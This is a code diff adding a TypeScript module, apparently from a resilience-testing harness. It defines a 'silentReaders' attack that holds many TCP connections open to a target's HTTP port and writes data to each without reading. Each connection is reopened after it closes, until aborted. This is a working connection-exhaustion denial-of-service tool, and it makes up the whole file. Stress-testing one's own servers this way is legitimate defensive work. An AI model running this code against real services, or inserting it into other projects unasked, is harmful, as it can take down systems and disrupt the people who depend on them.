@@ -1,0 +1,52 @@
+import { once } from 'node:events';
+import { connect, type Socket } from 'node:net';
+
+/** Where an attack goes. */
+export interface AttackTarget {
+  readonly host: string;
+  readonly httpPort: number;
+  readonly grpcPort: number;
+  /** A path of a large page, and the API key that reads it; attacks that have none take what needs no credential. */
+  readonly page?: { readonly path: string; readonly apiKey: string };
+}
+
+/** Runs until `signal` is aborted, with so many connections at a time. */
+export type Attack = (target: AttackTarget, signal: AbortSignal, connections: number) => Promise<void>;
+
+/** A new connection is opened this long after the last one has ended. */
+const reopenMs = 50;
+
+/**
+ * Keeps so many connections to the HTTP port open, of which nothing is ever read. `bytes` is written to each; `again`: over and over, as fast as
+ * the node takes it.
+ */
+export async function silentReaders(
+  { host, httpPort }: AttackTarget,
+  signal: AbortSignal,
+  connections: number,
+  bytes: Buffer,
+  again: boolean,
+): Promise<void> {
+  const one = async (): Promise<void> => {
+    while (!signal.aborted) {
+      const socket = connect(httpPort, host).on('error', () => {});
+      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+      const stop = (): void => void socket.destroy();
+      signal.addEventListener('abort', stop);
+      await Promise.race([once(socket, 'connect').catch(() => {}), closed]);
+      socket.pause();
+      await write(socket, bytes, again, closed);
+      await closed;
+      signal.removeEventListener('abort', stop);
+      await new Promise((resolve) => setTimeout(resolve, reopenMs));
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, one));
+}
+
+async function write(socket: Socket, bytes: Buffer, again: boolean, closed: Promise<void>): Promise<void> {
+  do {
+    if (socket.destroyed) return;
+    if (!socket.write(bytes)) await Promise.race([new Promise<void>((taken) => socket.once('drain', taken)), closed]);
+  } while (again);
+}
